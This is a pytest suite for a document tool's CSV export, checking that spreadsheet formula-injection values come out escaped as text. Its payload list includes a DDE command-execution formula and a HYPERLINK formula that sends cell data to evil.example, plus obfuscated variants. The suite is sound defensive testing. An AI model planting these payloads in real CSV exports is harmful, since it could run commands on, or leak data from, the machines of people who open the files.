"""No cell of a CSV file is a formula to a spreadsheet, whatever a document, a file name or a question says."""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest

from cogdoc.results.output_formats import FORMATS, make_renderer
from cogdoc.results.records import (
    Answer,
    AnswerRecord,
    AnyRecord,
    Chart,
    ChartKind,
    ChartRecord,
    ChartSeries,
    ChartValue,
    EngineInfo,
    SourceInfo,
)

ENGINE = EngineInfo(name="builtin", version="1")
DDE = "=cmd|'/C calc'!A0"
FORMULAS = (
    DDE,
    "=1+1",
    "+1+1",
    "-2+3",
    "-2+3+cmd|' /C calc'!D2",
    "-A1",
    "-(1)",
    "@SUM(1,1)",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\t=1+1",
    "\n=1+1",
    "\r=1+1",
    "\tharmless",
    "＝1+1",
    "＋1+1",
    "－2+3",
    "＠SUM(1)",
    "﹦1+1",
    '"=1+1',
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    f"total;{DDE}",
    f"total\t{DDE}",
    f"total\n{DDE}",
    f'total"\n{DDE}',
    f'total"; "{DDE}',
    "sep=;",
    "+49 30 1234",
)
HARMLESS = (
    "-12.5",
    "+3",
    "-",
    "--",
    "- 4 %",
    "-4%",
    "-1,234,567.89",
    "-1.234,5",
    "-1 234",
    "-$1,200.50",
    "-US$ 5",
    "-EUR 5",
    "-5 USD",
    "-3.2 million",
    "-1e-05",
    "-.5",
    "－５％",
    "−12",
    "12=3",
    "a-b",
    "a@b.example",
    "'quoted'",
    "5; 6",
    "-5; +6",
    "",
    "Identity",
)
DANGEROUS = re.compile(r"[=+\-@\t\r\n]")


def is_formula(cell: str) -> bool:
    visible = unicodedata.normalize("NFKC", cell).lstrip(" \u200b\ufeff\"'") if cell[:1] != "'" else ""
    return bool(DANGEROUS.match(visible) or DANGEROUS.match(cell))


def answer(path: str, question: str, text: str) -> AnswerRecord:
    found = Answer(question=question, text=text, confidence=0.5)
    return AnswerRecord(source=SourceInfo(path=path), engine=ENGINE, question=question, answer=found)


def chart(
    label: str, *, printed: str = "5", path: str = "a.pdf", kind: ChartKind = ChartKind.BAR, name: str = ""
) -> ChartRecord:
    values = (ChartValue(value=5, text=printed, confidence=1),)
    return ChartRecord(
        source=SourceInfo(path=path),
        engine=ENGINE,
        chart=Chart(
            kind=kind,
            title=label,
            x_title=label,
            y_title=label,
            unit=label,
            categories=(label,),
            series=(ChartSeries(name=name or label, values=values),),
            measured=False,
            confidence=1,
        ),
    )


def written(*records: AnyRecord, several_sources: bool = False) -> str:
    stream = io.StringIO(newline="")
    renderer = make_renderer(FORMATS["csv"], stream, several_sources=several_sources)
    for record in records:
        renderer.begin(record.task, record.source)
        renderer.write(record)
        renderer.end(None)
    renderer.close()
    return stream.getvalue()


def cells(text: str, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def every_place(attack: str) -> list[str]:
    """CSV texts with `attack` in each of their columns."""
    return [
        written(answer(attack, attack, attack)),
        written(chart(attack, printed=attack, path=attack), several_sources=True),
        written(chart(attack, printed=attack, kind=ChartKind.HORIZONTAL_BAR)),
    ]


@pytest.mark.parametrize("attack", FORMULAS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_begins_like_a_formula_whatever_the_separator_of_the_spreadsheet(attack: str, delimiter: str) -> None:
    for text in every_place(attack):
        assert [cell for cell in cells(text, delimiter) if is_formula(cell)] == []
        assert attack.replace('"', '""').strip()[-5:] in text


@pytest.mark.parametrize("value", HARMLESS)
def test_numbers_and_other_text_stay_as_they_are(value: str) -> None:
    assert cells(written(chart(value or " ")))[-2] == (value or " ")
    assert cells(written(answer("a.pdf", "How much?", value)))[11] == value


def test_first_bytes_do_not_announce_another_format_or_separator() -> None:
    for label in ("ID", "ID;PWXL;N;E", "sep=;", 'sep=";"', "SEP=\t"):
        text = written(chart(label, name="value"))
        assert not text.startswith("ID")
        assert not re.match(r'"*sep=', text, re.IGNORECASE)


def test_chart_whose_labels_are_formulas_is_written_as_text() -> None:
    rows = [(DDE, "30"), ("+1+1", "55"), ("-2+3", "45"), ("North", "-12.5")]
    record = chart("x")
    assert record.chart is not None
    series = ChartSeries(name="", values=tuple(ChartValue(value=0, text=v, confidence=1) for _, v in rows))
    plotted = record.chart.model_copy(update={"categories": tuple(c for c, _ in rows), "series": (series,)})
    text = written(record.model_copy(update={"chart": plotted}))
    assert text.splitlines()[1:] == [f"'{DDE},0", "'+1+1,0", "'-2+3,0", "North,0"]


@pytest.mark.slow
def test_file_name_and_question_that_are_formulas_are_written_as_text(tmp_path: Path, samples: Path) -> None:
    name = "=cmd|' calc'!A0.pdf"
    (tmp_path / name).write_bytes((samples / "letter.pdf").read_bytes())
    command = "from cogdoc.cli.app import main; main()"
    arguments = ["ask", name, "--out", "csv", "--engine", "builtin", "-q", "@SUM(1,1)"]
    text = subprocess.run(
        [sys.executable, "-c", command, *arguments],
        cwd=tmp_path,
        env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)},
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    assert [cell for cell in cells(text) if is_formula(cell)] == []
    assert f"'{name}" in text
    assert "'@SUM(1,1)" in text
